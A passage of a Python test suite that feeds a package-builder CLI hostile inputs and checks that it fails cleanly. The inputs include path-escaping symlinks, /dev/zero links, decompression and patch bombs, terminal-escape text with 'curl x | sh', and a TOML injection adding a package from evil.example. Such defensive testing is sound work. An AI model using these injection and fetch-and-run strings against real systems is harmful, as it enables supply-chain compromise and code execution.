"""The hostile-input corpus: every hostile or broken input the farm takes, through the real CLI.

Each case runs ``python -m builder ...`` in a subprocess on its own scratch input (size, memory and time
limits) and asserts its exit code, a clear ``error:`` line, no traceback, nothing written outside its scratch
folder, and the published index and sdist cache unchanged. :data:`SURFACES` (each command's outside inputs)
and :data:`CLASSES` (each class of hostile input, per command) must name a case or a reason for every entry.
``HOSTILE_CORPUS_CODE=DIR`` runs it against another tree's builder; ``HOSTILE_CORPUS_REPORT=FILE`` logs each case.
"""

from __future__ import annotations

import codecs
import http.server
import json
import os
import resource
import shutil
import subprocess
import sys
import tarfile
import threading
import time
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from conftest import REPO
from hostilekit import add, chain_archive, corrupt_gzip, drip, sha256, snapshot
from wheelmaker import V, make_mamba_wheel

CODE = Path(os.environ.get("HOSTILE_CORPUS_CODE") or REPO)
REPORT = os.environ.get("HOSTILE_CORPUS_REPORT")
TIMEOUT_S = 30
LIMITS = {resource.RLIMIT_FSIZE: 256 << 20, resource.RLIMIT_AS: 4 << 30}  # /dev/zero never fills a disk or RAM

TORCH_CELL = ["--torch", "2.14.1", "--accelerator", "cpu"]
RESOLVE = ["resolve", "--torch", "2.6", "--cuda", "12.4", "--abi", "FALSE", "--python", "3.11", "--index"]
LABEL = "cu12torch2.6cxx11abiFALSE"
INFO = f"mamba_ssm-{V}+{LABEL}.dist-info"


@dataclass
class Case:
    name: str
    expect: int  # exit code
    message: str  # what stderr must say (a substring)
    make: callable  # (World, scratch) -> argv
    env: dict = field(default_factory=dict)
    probe_shell: bool = False  # an accepted recipe env: does it reach build.sh's shell?
    absent: str = ""  # a text that must not be printed (the content of a file outside the command's folders)


class World:
    """What every case shares: the published index, the sdist cache (a victim pin cached), a web server."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.published = root / "published"
        self.index = self.published / "index"
        self.farm = root / "farm"
        self.cases = root / "cases"
        self.cases.mkdir(parents=True)
        wheels = root / "good-wheels"
        make_mamba_wheel(wheels, LABEL, "cp311")
        self.published.mkdir()
        rc = _run(["index", "--wheels", str(wheels), "--out", str(self.index)], {}, root)[0]
        assert rc == 0, "the published index could not be made"
        shutil.rmtree(wheels)
        # hard links: a restored copy keeps the store's inodes and mtimes (the index recognises its files by them)
        self.pristine = root / "pristine"
        subprocess.run(["cp", "-al", str(self.published), str(self.pristine)], check=True)
        self.pristine_view = snapshot(self.pristine)
        # a victim: another pin's archive in the cache, which an escaping unpack would reach
        self.victim = self.farm / "sdists" / ("e" * 64) / "victim-1.0.tar.gz"
        self.victim.parent.mkdir(parents=True)
        with tarfile.open(self.victim, "w:gz") as tf:
            add(tf, "victim-1.0/setup.py", data=b"print('victim')\n")
        self.site = root / "site"
        (self.site / "simple").mkdir(parents=True)
        handler = type("H", (_Handler,), {"site": self.site})
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"


class _Handler(http.server.BaseHTTPRequestHandler):
    site: Path

    def log_message(self, *args) -> None:
        pass

    def do_GET(self) -> None:
        if self.path.startswith("/trickle/"):  # a byte a second: each read is within a request's deadline
            self.send_response(200)
            self.send_header("Content-Length", "120")
            self.end_headers()
            drip(self.wfile, b"x", 120, 1)
            return
        if self.path.startswith("/to-ftp/"):  # a redirect off the web: urllib follows one to ftp:// by itself
            self.send_response(302)
            self.send_header("Location", "ftp://127.0.0.1:9/evil")
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        ranged = self.headers.get("Range", "")
        if ranged.startswith("bytes=") and (self.site / self.path.lstrip("/")).is_file():  # a remote wheel's reads
            data = (self.site / self.path.lstrip("/")).read_bytes()
            a, b = (int(x) for x in ranged[6:].split("-"))
            part = data[a : b + 1]
            self.send_response(206)
            self.send_header("Content-Range", f"bytes {a}-{a + len(part) - 1}/{len(data)}")
            self.send_header("Content-Length", str(len(part)))
            self.end_headers()
            self.wfile.write(part)
            return
        if self.path.startswith("/endless/"):  # an endless body, as far as a client can tell (stops at 64 MiB)
            self.send_response(200)
            self.send_header("Content-Type", "application/octet-stream")
            self.end_headers()
            chunk = b"\0" * (1 << 20)
            try:
                for _ in range(64):
                    self.wfile.write(chunk)
            except OSError:
                pass
            return
        path = self.site / self.path.lstrip("/").split("?")[0]
        if path.is_dir():
            path = path / "index.html"
        if not path.is_file():
            self.send_error(404)
            return
        data = path.read_bytes()
        self.send_response(200)
        ctype = "text/html" if path.suffix == ".html" else "application/octet-stream"
        if data.startswith((b"[", b"{")):  # a PEP 691 answer (an object, or one that is not)
            ctype = "application/vnd.pypi.simple.v1+json"
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


# The limits are set by the child itself, then it execs the CLI: no preexec_fn (unsafe with the server's thread).
_LIMITED = (
    "import os, resource, sys\n"
    f"for res, value in {[(int(r), v) for r, v in LIMITS.items()]!r}:\n"
    "    resource.setrlimit(res, (value, value))\n"
    "os.execv(sys.executable, [sys.executable, '-m', 'builder', *sys.argv[1:]])\n"
)


def _run(argv: list[str], env: dict, cwd_scratch: Path) -> tuple[int | str, str, str]:
    base = {k: v for k, v in os.environ.items() if not k.startswith(("PIP_", "MAMBA_FARM_", "HOSTILE_CORPUS"))}
    base.update(PIP_CONFIG_FILE=os.devnull, PIP_INDEX_URL="file:///nonexistent-index", PYTHONDONTWRITEBYTECODE="1",
                NO_PROXY="127.0.0.1,localhost", no_proxy="127.0.0.1,localhost")  # fmt: skip
    base.update(env)
    try:
        proc = subprocess.run(
            [sys.executable, "-c", _LIMITED, *argv], cwd=CODE, env=base, capture_output=True, text=True,
            timeout=TIMEOUT_S, check=False,
        )  # fmt: skip
    except subprocess.TimeoutExpired as err:
        out = err.stdout.decode(errors="replace") if isinstance(err.stdout, bytes) else err.stdout or ""
        return "hang", out, f"(no answer in {TIMEOUT_S} s)"
    return proc.returncode, proc.stdout, proc.stderr


# --------------------------------------------------------------------------- the cases


def _recipe(folder: Path, pin_sha: str, *, env: str = "", unset: str = "", name: str = "evil", source: str = "") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}.toml"
    source = source or f'sha256 = "{pin_sha}"'
    path.write_text(
        f'[project]\nname = "{name}"\n\n[source]\nname = "{name}"\nversion = "1.0"\n{source}\n\n'
        f'[build]\n{unset}\n\n[build.env]\nEVIL_FORCE_BUILD = "TRUE"\n{env}\n\n'
        f'[test]\nimports = ["{name.replace("-", "_")}"]\n\n[verify]\nextensions = ["{name.replace("-", "_")}*.so"]\n'
    )
    return path


def _sdist_case(build):
    """An archive made by ``build(tf, scratch, world)`` (or written by it when it returns bytes), cached under its
    pin as a hash-checked fetch would leave it, then ``recipe prepare`` of a recipe pinning it."""

    def make(world: World, scratch: Path) -> list[str]:
        archive = scratch / "evil-1.0.tar.gz"
        out = scratch / "out"
        with tarfile.open(archive, "w:gz") as tf:
            raw = build(tf, scratch, world)
        if isinstance(raw, bytes):
            archive.write_bytes(raw)
        elif raw == "chain":
            chain_archive(archive, "evil-1.0", out / "src", os.path.relpath(world.victim.parent, out / "src"))
        cached = world.farm / "sdists" / sha256(archive) / "evil-1.0.tar.gz"
        cached.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(archive, cached)
        _recipe(scratch / "recipes", sha256(archive))
        return ["recipe", "prepare", "evil", "--recipes", str(scratch / "recipes"), *TORCH_CELL, "--out", str(out)]

    return make


def _gz(data: bytes) -> bytes:
    import gzip
    import io

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        add(tf, "evil-1.0/setup.py", data=data)
    raw = bytearray(gzip.compress(buf.getvalue()))
    return bytes(raw)


def _corrupt(tf, scratch, world) -> bytes:
    raw = bytearray(_gz(os.urandom(20000)))
    raw[60:90] = b"\xff" * 30
    return bytes(raw)


def _corrupt_at(where: float):
    def build(tf, scratch, world) -> bytes:
        corrupt_gzip(scratch / "damaged.tar.gz", "evil-1.0", where)
        return (scratch / "damaged.tar.gz").read_bytes()

    return build


def _preflight_case(setup_py: str):
    """``recipe check`` of one cell of a recipe whose pinned sdist's setup.py is SETUP_PY (cached under its pin):
    what setup.py prints, and the METADATA it says it wrote, are outside data."""

    def make(world: World, scratch: Path) -> list[str]:
        archive = scratch / "evil-1.0.tar.gz"
        with tarfile.open(archive, "w:gz") as tf:
            add(tf, "evil-1.0/setup.py", data=setup_py.encode())
            add(tf, "evil-1.0/PKG-INFO", data=b"Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
        cached = world.farm / "sdists" / sha256(archive) / "evil-1.0.tar.gz"
        cached.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(archive, cached)
        _recipe(scratch / "recipes", sha256(archive))
        return ["recipe", "check", "evil", "--recipes", str(scratch / "recipes"), *TORCH_CELL]

    return make


_LOUD_SETUP = "import sys\nsys.stderr.write('\\x1b]0;owned\\x07\\u202e\\r evil\\n')\nsys.exit(1)\n"
_BYTES_SETUP = "import sys\nsys.stdout.buffer.write(b'\\xff\\xfe')\nsys.stderr.buffer.write(b'\\xff\\xfe\\n')\nsys.exit(1)\n"
_FIFO_SETUP = (
    "import json, os, sys\nos.mkfifo('m')\nprint('PREFLIGHT-METADATA ' + json.dumps(os.path.abspath('m')))\n"
    "sys.stdout.flush()\nos._exit(0)\n"
)


def _recipe_case(env: str = "", unset: str = ""):
    def make(world: World, scratch: Path) -> list[str]:
        _recipe(scratch / "recipes", "0" * 64, env=env, unset=unset)
        return ["recipe", "explain", "evil", "--recipes", str(scratch / "recipes"), *TORCH_CELL]

    return make


def _source_case(source: str):
    """``recipe explain`` of a recipe whose [source] holds SOURCE (an archive URL or a git repository)."""

    def make(world: World, scratch: Path) -> list[str]:
        _recipe(scratch / "recipes", "", source=source)
        return ["recipe", "explain", "evil", "--recipes", str(scratch / "recipes"), *TORCH_CELL]

    return make


def _archive_case(build, command: str = "prepare", pin_sha: str | None = None):
    """``recipe COMMAND`` of a recipe pinning an archive URL on 127.0.0.1 (it stands in for a GitHub tag tarball)
    whose members ``build(tf, world)`` adds; PIN_SHA: another sha256 than the archive's."""

    def make(world: World, scratch: Path) -> list[str]:
        served = world.site / "archive" / scratch.name
        served.mkdir(parents=True)
        with tarfile.open(served / "v1.0.tar.gz", "w:gz") as tf:
            build(tf, world)
        url = f"{world.url}/archive/{scratch.name}/v1.0.tar.gz"
        _recipe(scratch / "recipes", "", source=f'url = "{url}"\nsha256 = "{pin_sha or sha256(served / "v1.0.tar.gz")}"')
        out = ["--out", str(scratch / "out"), *TORCH_CELL] if command == "prepare" else []
        return ["recipe", command, "evil", "--recipes", str(scratch / "recipes"), *out]

    return make


def _git_case(build, commit: str | None = None):
    """``recipe prepare`` of a recipe pinning a git repository served on 127.0.0.1 (git's dumb HTTP from the
    corpus's static server; it stands in for GitHub) whose one commit ``build(work)`` makes; COMMIT: another."""

    def make(world: World, scratch: Path) -> list[str]:
        env = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@x",
               "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@x"}  # fmt: skip
        work = scratch / "work"
        work.mkdir()
        git = lambda *a, cwd=work: subprocess.run(["git", "-C", str(cwd), *a], env=env, check=True,
                                                  capture_output=True, text=True).stdout.strip()  # fmt: skip
        git("init", "-q")
        build(work)
        git("add", "-A")
        git("commit", "-qm", "evil")
        bare = world.site / "git" / f"{scratch.name}.git"
        git("clone", "-q", "--bare", str(work), str(bare), cwd=scratch)
        git("update-server-info", cwd=bare)
        pin = commit or git("rev-parse", "HEAD")
        _recipe(scratch / "recipes", "", source=f'git = "{world.url}/git/{scratch.name}.git"\ncommit = "{pin}"')
        return ["recipe", "prepare", "evil", "--recipes", str(scratch / "recipes"), "--out", str(scratch / "out"),
                *TORCH_CELL]  # fmt: skip

    return make


def _git_trickle(world: World, scratch: Path) -> list[str]:
    """``recipe prepare`` of a git pin whose server sends ``info/refs`` a byte a second (under every deadline
    of a request, far under the stall limit's speed)."""
    _recipe(scratch / "recipes", "", source=f'git = "{world.url}/trickle/{scratch.name}.git"\ncommit = "{"a" * 40}"')
    return ["recipe", "prepare", "evil", "--recipes", str(scratch / "recipes"), "--out", str(scratch / "out"),
            *TORCH_CELL]  # fmt: skip


def _patch_bomb(world: World, scratch: Path) -> list[str]:
    """``recipe prepare`` of a patch whose edit replaces each of a million characters by 60 kB (60 GB in all)."""
    archive = scratch / "evil-1.0.tar.gz"
    with tarfile.open(archive, "w:gz") as tf:
        add(tf, "evil-1.0/setup.py", data=b"x" * 1_000_000)
    cached = world.farm / "sdists" / sha256(archive) / "evil-1.0.tar.gz"
    cached.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy2(archive, cached)
    recipe = _recipe(scratch / "recipes", sha256(archive))
    recipe.write_text(recipe.read_text() + '\n[[patch]]\nname = "bomb"\nwhy = "a hostile recipe"\nfile = "setup.py"\n\n'
                      f'[[patch.edit]]\nsearch = "x"\nreplace = "{"y" * 60_000}"\ncount = 1000000\n')  # fmt: skip
    return ["recipe", "prepare", "evil", "--recipes", str(scratch / "recipes"), *TORCH_CELL, "--out",
            str(scratch / "out")]  # fmt: skip


def _git_link_out(work: Path) -> None:
    (work / "setup.py").write_text("")
    os.symlink("../../../../etc", work / "etc")


def _huge_recipe(world: World, scratch: Path) -> list[str]:
    path = _recipe(scratch / "recipes", "0" * 64)
    with open(path, "a") as f:
        f.write("#" * (20 << 20) + "\n")
    return ["recipe", "explain", "evil", "--recipes", str(scratch / "recipes"), *TORCH_CELL]


def _fifo_recipe(world: World, scratch: Path) -> list[str]:
    (scratch / "recipes").mkdir()
    os.mkfifo(scratch / "recipes" / "evil.toml")
    return ["recipe", "explain", "evil", "--recipes", str(scratch / "recipes"), *TORCH_CELL]


def _fifo_matrix(world: World, scratch: Path) -> list[str]:
    os.mkfifo(scratch / "matrix.toml")
    return ["plan", "--matrix", str(scratch / "matrix.toml")]


def _fetch_case(page: callable):
    """``recipe fetch`` of a pin whose index page ``page(world, scratch)`` writes (served on 127.0.0.1)."""

    def make(world: World, scratch: Path) -> list[str]:
        sha, index = page(world, scratch)
        _recipe(scratch / "recipes", sha, name=scratch.name.replace("_", "-"))
        return ["recipe", "fetch", scratch.name.replace("_", "-"), "--recipes", str(scratch / "recipes")], index

    return make


def _page(world: World, project: str, links: list[tuple[str, str]]) -> str:
    folder = world.site / "simple" / project
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "index.html").write_text("".join(f'<a href="{h}">{t}</a>\n' for h, t in links))
    return f"{world.url}/simple"


def _file_link(world: World, scratch: Path):
    local = scratch / "local.tar.gz"
    with tarfile.open(local, "w:gz") as tf:
        add(tf, "fetch_file_link-1.0/setup.py", data=b"")
    return sha256(local), _page(world, "fetch-file-link", [(local.as_uri(), "fetch_file_link-1.0.tar.gz")])


def _endless(world: World, scratch: Path):
    return "1" * 64, _page(world, "fetch-endless", [(f"{world.url}/endless/x", "fetch_endless-1.0.tar.gz")])


def _dev_zero(world: World, scratch: Path):
    folder = scratch / "local-index" / "fetch-dev-zero"
    folder.mkdir(parents=True)
    (folder / "index.html").write_text('<a href="file:///dev/zero">fetch_dev_zero-1.0.tar.gz</a>\n')
    return "2" * 64, (scratch / "local-index").as_uri()


def _json_list(world: World, scratch: Path):
    folder = world.site / "simple" / "fetch-json-list"
    folder.mkdir(parents=True)
    (folder / "index.html").write_text('[{"url": 1, "filename": ["x"]}]')  # served as JSON, not an object
    return "3" * 64, f"{world.url}/simple"


def _index_case(build):
    """``index`` of a --wheels folder that ``build(folder, world)`` fills, into the published index."""

    def make(world: World, scratch: Path) -> list[str]:
        folder = scratch / "wheels"
        folder.mkdir()
        extra = build(folder, world)
        extra = extra if isinstance(extra, list) else []
        return ["index", "--wheels", str(folder), "--out", str(world.index), *extra]

    return make


def _harvest_case(build):
    """``evidence harvest`` of a --wheels folder that ``build(folder)`` fills, into a scratch ledger."""

    def make(world: World, scratch: Path) -> list[str]:
        folder = scratch / "wheels"
        folder.mkdir()
        build(folder)
        return ["evidence", "harvest", "--wheels", str(folder), "--ledger", str(scratch / "ledger.json")]

    return make


def _ledger_case(content: bytes):
    """``evidence tiers`` of a ledger holding CONTENT."""

    def make(world: World, scratch: Path) -> list[str]:
        (scratch / "ledger.json").write_bytes(content)
        return ["evidence", "tiers", "--profile", "ci", "--ledger", str(scratch / "ledger.json")]

    return make


def _hip_case(content):
    """``evidence harvest --hip`` of a record holding CONTENT (bytes, or a callable that makes the path)."""

    def make(world: World, scratch: Path) -> list[str]:
        path = scratch / "hip.evidence.json"
        if callable(content):
            content(path)
        else:
            path.write_bytes(content)
        return ["evidence", "harvest", "--hip", str(path), "--ledger", str(scratch / "ledger.json")]

    return make


_HIP_OK = {"schema": 1, "kind": "hip-compile", "linked": False, "line": "checkout", "archs": ["gfx90a"],
           "hip_version": "5.7.1", "toolchain": {"image": "mamba-farm/hip-toolchain:0"}, "tus": [{"tu": "a.hip"}]}  # fmt: skip


def _hip_with(**fields) -> bytes:
    return json.dumps({**_HIP_OK, **fields}).encode()


def _evidence_beside(folder: Path, text: str | None, **fields) -> None:
    """A wheel with an evidence record beside it: TEXT as it is, or a well-formed record with FIELDS changed."""
    whl = make_mamba_wheel(folder, LABEL, "cp312")
    if text is None:
        rec = {"schema": 1, "wheel": whl.name, "sha256": sha256(whl), "built": None, "imported": None,
               "verified": {"tags": []}, "numerics": [], "gpu": []}  # fmt: skip
        text = json.dumps({**rec, **fields})
    Path(f"{whl}.evidence.json").write_text(text)


def _wheel_with(folder: Path, changes: dict, name: str | None = None) -> None:
    whl = make_mamba_wheel(folder / "tmp", LABEL, "cp312")
    with zipfile.ZipFile(whl) as zf:
        members = {n: zf.read(n) for n in zf.namelist()}
    for n, data in changes.items():
        if data is None:
            members.pop(n)
        else:
            members[n] = data
    with zipfile.ZipFile(folder / (name or whl.name), "w") as zf:
        for n, data in members.items():
            zf.writestr(n, data)
    shutil.rmtree(folder / "tmp")


def _renamed(tag_platform: str):
    def build(folder: Path, world: World):
        whl = make_mamba_wheel(folder / "tmp", LABEL, "cp312")
        whl.rename(folder / whl.name.replace("linux_x86_64", tag_platform))
        shutil.rmtree(folder / "tmp")

    return build


def _stable_junk_extension(folder: Path, world: World):
    """A stable-ABI CUDA wheel whose extension is not an ELF file: published on the classic pages, but its
    variant form cannot be read, so the variant root leaves it out."""
    from wheelmaker import make_wheel

    make_wheel(folder, "mamba-ssm", "2.3.0+cu13torchstable", "cp310-abi3-linux_x86_64", requires=("torch>=2.10",),
               files={"mamba_ssm/_C.abi3.so": b"\x7fELF not really"})  # fmt: skip


def _dist_info(folder: Path, world: World):
    whl = make_mamba_wheel(folder / "tmp", LABEL, "cp312")
    with zipfile.ZipFile(whl) as zf:
        members = {n.replace(INFO, f"other-{V}.dist-info"): zf.read(n) for n in zf.namelist()}
    with zipfile.ZipFile(folder / whl.name, "w") as zf:
        for n, data in members.items():
            zf.writestr(n, data)
    shutil.rmtree(folder / "tmp")


def _two_named_alike(folder: Path, world: World):
    make_mamba_wheel(folder / "a", LABEL, "cp312")
    _wheel_with(folder / "b", {"mamba_ssm/extra.py": b"x = 1\n"})


def _resolve_case(edit):
    def make(world: World, scratch: Path) -> list[str]:
        doc = json.loads((world.index / "manifest.json").read_text())
        doc = edit(doc) or doc
        (scratch / "idx").mkdir()
        (scratch / "idx" / "manifest.json").write_text(json.dumps(doc))
        return [*RESOLVE, str(scratch / "idx")]

    return make


def _first(doc):
    return next(iter(doc["files"].values()))


# --- the surfaces that landed after the first corpus


def _resolve_raw(build):
    """``resolve`` of an index folder whose manifest.json ``build(path)`` makes (any bytes, a FIFO...)."""

    def make(world: World, scratch: Path) -> list[str]:
        (scratch / "idx").mkdir()
        build(scratch / "idx" / "manifest.json")
        return [*RESOLVE, str(scratch / "idx")]

    return make


def _resolve_fifo_url(world: World, scratch: Path) -> list[str]:
    (scratch / "idx").mkdir()
    os.mkfifo(scratch / "idx" / "manifest.json")
    return [*RESOLVE, (scratch / "idx").as_uri()]


def _listing(files: list[dict] | str | bytes) -> bytes:
    if isinstance(files, bytes):
        return files
    body = (
        files
        if isinstance(files, str)
        else json.dumps({"meta": {"api-version": "1.1"}, "name": "torch", "files": files})
    )
    return body.encode() if isinstance(body, str) else body


def _torch_file(**changes) -> dict:
    f = {"filename": "torch-2.15.0-cp311-cp311-manylinux_2_28_x86_64.whl", "url": "torch-2.15.0.whl",
         "hashes": {"sha256": "a" * 64}, "size": 1000, "upload-time": "2026-10-28T00:00:00Z", "yanked": False,
         "core-metadata": True}  # fmt: skip
    f.update(changes)
    return f


def _drift_case(listing, metadata: bytes | None = None):
    """``drift`` (no --write) of a torch listing served on 127.0.0.1 under the case's own path."""

    def make(world: World, scratch: Path) -> dict:
        folder = world.site / scratch.name / "simple" / "torch"
        folder.mkdir(parents=True)
        (folder / "index.html").write_bytes(_listing(listing))
        if metadata is not None:
            (folder / "torch-2.15.0.whl.metadata").write_bytes(metadata)
        return {"argv": ["drift", "--index", f"{world.url}/{scratch.name}/simple", "--no-recipes", "--since", "2.15",
                         "--cache", str(scratch / "cache")], "env": {"MAMBA_FARM_REQUEST_DEADLINE": "10"}}  # fmt: skip

    return make


def _canary_table(git: str, branch: str = "main", commit: str = "c" * 40, release: str = "1.0", distance="1") -> str:
    """A [canary] table, spliced after a recipe's [source] pin (the _recipe helper's ``source``)."""
    return (f'sha256 = "{"0" * 64}"\n\n[canary]\ngit = "{git}"\nbranch = "{branch}"\ncommit = "{commit}"\n'
            f'release = "{release}"\ndistance = {distance}')  # fmt: skip


def _drift_canary_case(tag: str):
    """``drift`` of a recipe whose [canary] branch is served on 127.0.0.1 (git's dumb HTTP from the corpus's static
    server), its one commit tagged TAG: the tag the branch's version is numbered from."""

    def make(world: World, scratch: Path) -> dict:
        env = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@x",
               "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@x"}  # fmt: skip
        work = scratch / "work"
        work.mkdir()
        git = lambda *a, cwd=work: subprocess.run(["git", "-C", str(cwd), *a], env=env, check=True,
                                                  capture_output=True, text=True).stdout.strip()  # fmt: skip
        git("init", "-q", "-b", "main")
        (work / "setup.py").write_text("")
        git("add", "-A")
        git("commit", "-qm", "evil")
        git("tag", tag)
        (work / "setup.py").write_text("# on\n")
        git("commit", "-qam", "on")
        bare = world.site / "git" / f"{scratch.name}.git"
        git("clone", "-q", "--bare", str(work), str(bare), cwd=scratch)
        git("update-server-info", cwd=bare)
        _recipe(scratch / "recipes", "", source=_canary_table(f"{world.url}/git/{scratch.name}.git"))
        made = _drift_case([_torch_file()], _meta(b"numpy"))(world, scratch)
        listing = world.site / scratch.name / "simple" / "evil"  # the release pin's index: no newer sdist
        listing.mkdir(parents=True)
        (listing / "index.html").write_bytes(_listing([]))
        argv = made["argv"]
        argv[argv.index("--no-recipes")] = "--recipes"
        argv.insert(argv.index("--recipes") + 1, str(scratch / "recipes"))
        return made

    return make


def _smoke_case(build, *args: str):
    """``cache [args]`` of a farm cache (in the scratch folder) whose smoke venvs ``build(smoke, world, scratch)`` lays out."""

    def make(world: World, scratch: Path) -> dict:
        smoke = scratch / "farm" / "smoke"
        venv = smoke / "cp311-torch2.14.1" / "torch-envs" / "py3.11.1-0123456789"
        venv.mkdir(parents=True)
        (venv / ".complete").write_text("torch==2.14.1\n")
        build(smoke, world, scratch)
        return {"argv": ["cache", *args], "env": {"MAMBA_FARM_CACHE": str(scratch / "farm")}}

    return make


def _complete(kind: str):
    def build(smoke: Path, world: World, scratch: Path) -> None:
        done = smoke / "cp311-torch2.14.1" / "torch-envs" / "py3.11.1-0123456789" / ".complete"
        done.unlink()
        if kind == "fifo":
            os.mkfifo(done)
        elif kind == "dev-zero":
            done.symlink_to("/dev/zero")
        else:
            done.write_bytes(b"torch==2.14.1\x1b[2J\x1b[1;1Hinstall: curl x | sh\n")

    return build


def _linked_slot(smoke: Path, world: World, scratch: Path) -> None:
    """A slot linked to a folder outside the scratch folder (a bigger disk): prune must not reach it."""
    target = world.root / f"elsewhere-{scratch.name}"
    venv = target / "torch-envs" / "py3.12.1-0123456789"
    venv.mkdir(parents=True)
    (venv / ".complete").write_text("torch==2.15.0\n")
    (venv / "big.so").write_bytes(b"x" * 4096)
    (smoke / "cp312-torch2.15.0").symlink_to(target)


def _zip_patch(edit):
    """An index case whose wheel's bytes ``edit(raw: bytearray, offsets)`` patches (offsets of METADATA's headers)."""

    def build(folder: Path, world: World):
        whl = make_mamba_wheel(folder / "tmp", LABEL, "cp312")
        raw = bytearray(whl.read_bytes())
        with zipfile.ZipFile(whl) as zf:
            info = zf.getinfo(f"{INFO}/METADATA")
        central = next(
            i for i in _all(raw, b"PK\x01\x02") if raw[i + 46 : i + 46 + len(info.filename)] == info.filename.encode()
        )
        edit(raw, info.header_offset, central)
        (folder / whl.name).write_bytes(bytes(raw))
        shutil.rmtree(folder / "tmp")

    return build


def _all(raw: bytes, sig: bytes):
    i = raw.find(sig)
    while i >= 0:
        yield i
        i = raw.find(sig, i + 1)


def _bad_crc(raw: bytearray, local: int, central: int) -> None:
    for at in (local + 14, central + 16):
        raw[at] ^= 0xFF


def _encrypted(raw: bytearray, local: int, central: int) -> None:
    for at in (local + 6, central + 8):
        raw[at] |= 0x01


def _unsupported(raw: bytearray, local: int, central: int) -> None:
    for at in (local + 8, central + 10):
        raw[at : at + 2] = (99).to_bytes(2, "little")


def _huge_directory(raw: bytearray, local: int, central: int) -> None:
    end = raw.rfind(b"PK\x05\x06")
    raw[end + 12 : end + 16] = (3 << 30).to_bytes(4, "little")  # a 3 GiB central directory, claimed


def _huge_metadata(folder: Path, world: World) -> None:
    meta = (b"Metadata-Version: 2.1\nName: mamba-ssm\nVersion: 0.3.0+" + LABEL.encode() + b"\n\n") + b"x" * (17 << 20)
    _wheel_with(folder, {f"{INFO}/METADATA": meta})


def _matrix_nested(world: World, scratch: Path) -> list[str]:
    (scratch / "matrix.toml").write_text("x = " + "[" * 5000 + "]" * 5000 + "\n")
    return ["render", "--matrix", str(scratch / "matrix.toml"), "--out", str(scratch / "out")]


def _rehearse(*flags: str):
    def make(world: World, scratch: Path) -> list[str]:
        return ["rehearse", "--work", str(scratch / "work"), *flags]

    return make


def _rehearse_work_file(world: World, scratch: Path) -> list[str]:
    (scratch / "work").write_text("a file")
    return ["rehearse", "--work", str(scratch / "work")]


# --- the installs check's index snapshot and record (builder installs, replaying tests/data/installs-snapshot)
_INSTALLS_FIXTURE = REPO / "tests" / "data" / "installs-snapshot"
_INSTALLS_PROFILE = (
    '\n[profiles.hostile-installs]\ndescription = "one CPU cell"\nplatform = "linux_x86_64"\naccelerator = "cpu"\n'
    'torch = "2.9"\npython = "3.11"\nstable_abi = false\n'
)


def _torch_listing(snapshot: Path) -> tuple[Path, list]:
    page = snapshot / "pages" / "torch.json"
    return page, json.loads(page.read_text())


def _installs_case(edit):
    """``installs`` of one CPU cell (torch 2.9.1, cp311) from a copy of the recorded snapshot, EDIT applied to it."""

    def make(world: World, scratch: Path) -> list[str]:
        snap = scratch / "snapshot"
        shutil.copytree(_INSTALLS_FIXTURE, snap)
        (scratch / "mamba_ssm").mkdir()
        shutil.copy(CODE / "mamba_ssm" / "__init__.py", scratch / "mamba_ssm" / "__init__.py")
        (scratch / "matrix.toml").write_text((CODE / "matrix.toml").read_text() + _INSTALLS_PROFILE)
        record = edit(snap, scratch) or scratch / "installs.json"
        return ["installs", "--matrix", str(scratch / "matrix.toml"), "--profile", "hostile-installs",
                "--snapshot", str(snap), "--record-file", str(record), "--jobs", "1"]  # fmt: skip

    return make


def _listing_edit(change):
    def edit(snap: Path, scratch: Path) -> None:
        page, files = _torch_listing(snap)
        page.write_bytes(change(files))

    return edit


def _torch_metadata(snap: Path) -> Path:
    _page, files = _torch_listing(snap)
    f = next(f for f in files if "2.9.1-cp311-cp311-manylinux_2_28_x86_64" in f["filename"])
    return snap / "metadata" / f"{f['sha256']}.METADATA"


def _metadata_not_utf8(snap: Path, scratch: Path) -> None:
    _torch_metadata(snap).write_bytes(b"Metadata-Version: 2.1\nName: torch\nVersion: 2.9.1\nSummary: \xff\xfe\n")


def _metadata_links_outside(snap: Path, scratch: Path) -> None:
    secret = scratch / "secret.txt"
    secret.write_text("SECRET-OUTSIDE-THE-SNAPSHOT\n")
    meta = _torch_metadata(snap)
    meta.unlink()
    meta.symlink_to(secret)


def _record_a_list(snap: Path, scratch: Path) -> Path:
    (scratch / "installs.json").write_text("[]\n")
    return scratch / "installs.json"


def _torch_url(url: str):
    """Every torch wheel of the listing given URL (a lock names it as the listing does)."""
    return _listing_edit(lambda files: json.dumps([{**f, "url": url} for f in files]).encode())


_CLOSES_TOML = 'https://x.example/t.whl", size = 1 }]\n[[packages]]\nname = "evil"\nversion = "6.6.6"\nwheels = [{ url = "http://evil.example/evil.whl'


def _installs_argv_with(*flags: str, edit=None):
    """``installs`` as :func:`_installs_case` runs it, FLAGS added (``{scratch}`` and ``{snapshot}`` filled in)."""

    def make(world: World, scratch: Path) -> list[str]:
        argv = _installs_case(edit or (lambda snap, s: None))(world, scratch)
        return [*argv, *(f.format(scratch=scratch, snapshot=scratch / "snapshot") for f in flags)]

    return make


def _cached(edit):
    """``installs --locks`` over a resolution cached by a first run, EDIT (the entry's path) applied between."""

    def make(world: World, scratch: Path) -> list[str]:
